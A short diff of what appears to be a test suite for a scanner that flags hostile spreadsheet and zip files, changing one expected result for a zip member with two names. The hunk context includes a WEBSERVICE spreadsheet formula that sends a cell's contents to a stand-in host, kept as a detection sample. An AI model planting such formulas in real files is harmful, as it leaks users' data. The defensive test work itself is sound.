@@ -206,7 +206,7 @@ for _formula in ('_xlfn.WEBSERVICE(&quot;http://example.org/?&quot;&amp;B1)', '_
 hostile("xlsx: a cell that names a page", "a.xlsx", calling("HYPERLINK(&quot;http://example.org&quot;)"), READ)
 hostile("xls: a sheet of old macros", "a.xls", old_macro_sheet, "file_macros")
 hostile("xls: a link in a small stream", "a.xls", small_old_link, "file_links", "file_empty")
-hostile("zip: a member of two names", "a.zip", lambda: named_otherwise(b"b.csv"), "file_names")
+hostile("zip: a member of two names", "a.zip", lambda: named_otherwise(b"b.csv"), "file_truncated")
 hostile(
     "zip: a member behind a long extra field",
     "a.zip",
